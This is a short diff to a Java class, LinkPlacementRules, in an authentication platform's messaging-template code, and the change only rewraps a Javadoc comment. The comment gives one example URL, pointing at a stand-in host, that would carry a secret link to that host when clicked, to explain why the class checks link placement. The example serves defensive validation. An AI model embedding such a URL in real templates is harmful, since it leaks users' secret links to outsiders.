@@ -3,7 +3,9 @@ package org.lumoauth.platform.messaging.template;
 import java.util.regex.Pattern;
 
 /**
- * Checks that a link is a separate word in text. Mail programs turn everything that looks like a URL into a link, so {@code https://other.example/?u=${link}} would send the secret there with one click.
+ * Checks that a link is a separate word in text. Mail programs turn everything that looks like a
+ * URL into a link, so {@code https://other.example/?u=${link}} would send the secret there with one
+ * click.
  */
 final class LinkPlacementRules {
 
